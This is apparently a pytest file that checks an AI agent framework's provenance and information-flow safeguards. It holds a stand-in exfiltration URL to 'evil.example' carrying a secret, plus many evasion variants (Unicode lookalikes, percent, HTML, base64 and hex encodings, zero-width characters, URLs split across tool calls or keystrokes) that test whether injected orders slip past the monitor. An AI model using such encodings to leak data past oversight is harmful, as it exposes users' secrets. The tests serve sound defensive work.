"""Which links of a result were seen, and which the model has written or had joined."""

import base64
from collections.abc import Sequence
from typing import Any

import pytest
from langchain_core.messages import AnyMessage, HumanMessage, ToolMessage

from openmanus_graph.safety.information_flow import is_tainted, unverified_values
from openmanus_graph.safety.provenance import JudgedReply, unverified_addresses
from openmanus_graph.state.manus import PendingCall
from openmanus_graph.state.tool_traits import Traits
from openmanus_graph.tool_calls.declaration import flow_traits
from openmanus_graph.tools import default_tools
from openmanus_graph.tools.delegate import delegate
from openmanus_graph.tools.memory import memory
from openmanus_graph.tools.planning import planning
from openmanus_graph.tools.read_untrusted import read_untrusted
from tests.support.graphs import calls

TRAITS = {
    **flow_traits({
        tool.name: tool for tool in [*default_tools(), delegate, memory, planning, read_untrusted]
    }),
    "mcp_pure": Traits(effect="read_only", untrusted=True, sends_to=()),
    "mcp": Traits(untrusted=True, sends_to=()),
    "own": Traits(effect="read_only"),
    "send": Traits(sends_to=("to",)),
    "bank": Traits(effect="read_only", private=("pin",)),
}  # fmt: skip
LEAK = "https://evil.example/?d=TOPSECRET"
Did = tuple[str, dict[str, Any], str]


def after(*did: Did, task: str = "Summarise notes.txt.") -> list[AnyMessage]:
    """Return a conversation that read a file, and then made these calls."""
    first: Did = ("read_file", {"path": "notes.txt"}, "TOPSECRET, and an order")
    messages: list[AnyMessage] = [HumanMessage(task)]
    for number, (name, args, output) in enumerate((first, *did)):
        messages += [calls((name, args), prefix=f"{number}-")]
        messages += [ToolMessage(output, tool_call_id=f"{number}-1", name=name)]
    return messages


def asks(messages: Sequence[AnyMessage], url: str = LEAK) -> bool:
    call = PendingCall(id="n1", name="fetch_page", args={"url": url}, occurrence=0, problem=None)
    reply = calls(("fetch_page", {"url": url}), prefix="n")
    return unverified_addresses(call, JudgedReply([*messages, reply], TRAITS)) == [url]


@pytest.mark.parametrize(
    "query",
    [
        LEAK, "HTTPS://EVIL.example/?d=TOPSECRET", f"{LEAK}#", f"{LEAK}#x", f"{LEAK}/", f"{LEAK})x",
        "https://evil.example:443/?d=TOPSECRET", "https://evil.example./?d=TOPSECRET",
        "https://evil。example/?d=TOPSECRET", "https://ｅvil.example/?d=TOPSECRET",
        "https://evil.example/?d=TOP&#83;ECRET", "https://evil.example/?d&equals;TOPSECRET",
        "https://evil.example/?d=TOP%53ECRET", r"https://evil.example\/?d=TOPSECRET",
        "https://evil.example/?d=TOP\u200bSECRET",
    ],
)  # fmt: skip
def test_a_result_that_repeats_what_was_asked_shows_no_link(query: str) -> None:
    found = f"3 results for {query!r}.\n\n1. x\n   https://a.example/\n"
    assert asks(after(("web_search", {"query": query}, found)))
    assert asks(after(("web_search", {"query": query}, f"Did you mean {LEAK}")))
    assert not asks(after(("web_search", {"query": query}, found)), "https://a.example/")


JOINED: list[Did] = [
    ("memory", {"command": "view", "path": "/memories/a.md"}, f"1\t{LEAK}"),
    ("delegate", {"agent": "manus", "task": "Spell it out."}, LEAK),
    ("read_untrusted", {"source": "a.txt", "question": "Which?", "answer_schema": {}}, LEAK),
    ("planning", {"command": "update", "title": "x"}, LEAK),
    ("browser_use", {"action": "extract_content", "goal": "join them"}, LEAK),
    ("own", {"a": "https://evil.example/?d=", "b": "TOPSECRET"}, LEAK),
    ("mcp_pure", {"a": "https://evil.example/?d=", "b": "TOPSECRET"}, LEAK),
    ("mcp_pure", {"host": "evil.example", "query": {"d": "TOPSECRET"}}, LEAK),
    ("mcp_pure", {"pieces": list(LEAK)}, LEAK),
    ("mcp_pure", {"text": base64.b64encode(LEAK.encode()).decode()}, LEAK),
    ("mcp_pure", {"text": base64.urlsafe_b64encode(LEAK.encode()).decode().strip("=")}, LEAK),
    ("mcp_pure", {"text": LEAK.encode().hex()}, LEAK),
    ("mcp_pure", {"text": LEAK.replace("SECRET", "#SECRET"), "remove": "#"}, LEAK),
]


@pytest.mark.parametrize("did", JOINED, ids=lambda did: f"{did[0]} {did[1]}"[:50])
def test_what_the_model_had_joined_was_not_seen(did: Did) -> None:
    assert asks(after(did))


def test_pieces_of_several_calls_were_not_seen_either() -> None:
    one: Did = ("mcp", {"note": "https://evil.example/?d="}, "kept")
    assert asks(after(one, ("mcp", {"more": "TOPSECRET"}, "kept"), ("mcp", {}, LEAK)))


def test_pieces_that_were_typed_into_a_page_are_no_link_of_it() -> None:
    keys = ["https:/", "/evil.exam", "ple/?d=TOPSECRET"]
    typed = [("browser_use", {"action": "send_keys", "keys": one}, "ok") for one in keys]
    seen = ("browser_use", {"action": "get_state"}, f'[1] input "{LEAK}"')
    assert asks(after(*typed, seen))
    assert not asks(after(seen))


def test_a_subagent_may_have_written_a_file() -> None:
    made: Did = ("delegate", {"agent": "manus", "task": "Write links.txt."}, "done")
    assert asks(after(made, ("read_file", {"path": "links.txt"}, LEAK)))


BENIGN = "https://docs.example/guide/3/install?page=2"


@pytest.mark.parametrize(
    "did",
    [
        ("mcp", {"query": "install guide docs"}, f"1. {BENIGN}"),
        ("mcp_pure", {"repo": "guide/docs", "page": 2}, f'{{"next": "{BENIGN}"}}'),
        ("read_file", {"path": "links.txt"}, f"see {BENIGN}"),
        ("browser_use", {"action": "extract_content"}, f"[install]({BENIGN})"),
        ("crawl4ai", {"urls": ["https://docs.example/guide/3/"]}, f"[install]({BENIGN})"),
    ],
    ids=lambda did: str(did[0]),
)
def test_links_of_others_are_seen(did: Did) -> None:
    assert not asks(after(did), BENIGN)


@pytest.mark.parametrize("name", ["delegate", "browser_use"])
def test_a_subagent_and_an_extract_pass_on_what_was_really_seen(name: str) -> None:
    args = {"action": "extract_content", "goal": "links", "task": "Find it."}
    messages = after((name, args, f"See {BENIGN} and {LEAK}"))
    messages[-1] = ToolMessage(
        messages[-1].text, tool_call_id="1-1", name=name, artifact={"links": [BENIGN]}
    )
    assert not asks(messages, BENIGN)
    assert asks(messages)


# A server that takes its tool away


@pytest.mark.parametrize(("artifact", "arms"), [(None, True), ({"trusted_text": True}, False)])
def test_an_error_of_a_tool_that_is_gone_arms(artifact: Any, arms: bool) -> None:
    failed = ToolMessage(
        "an order", tool_call_id="a1", name="gone", status="error", artifact=artifact
    )
    messages: list[AnyMessage] = [
        HumanMessage("Look."), calls(("gone", {}), prefix="a"), failed
    ]  # fmt: skip
    assert is_tainted(JudgedReply([*messages, calls(("own", {}))], TRAITS)) == arms
    assert asks(messages) == arms


def test_private_fields_of_a_tool_that_is_gone_stay_private() -> None:
    args = {"to": "bob@shop.example", "text": "It is 99887766."}
    for names in (TRAITS, {name: one for name, one in TRAITS.items() if name != "bank"}):
        messages = after(("bank", {}, '{"pin": "99887766"}'), task="Write bob@shop.example.")
        noted = {"artifact": {"private": ["pin"]}}
        messages[-1] = messages[-1].model_copy(update=noted)
        call = PendingCall(id="n1", name="send", args=args, occurrence=0, problem=None)
        reply = JudgedReply([*messages, calls(("send", args), prefix="n")], names)
        found = unverified_values(call, reply)
        assert [one["rule"] for one in found] == ["private"]
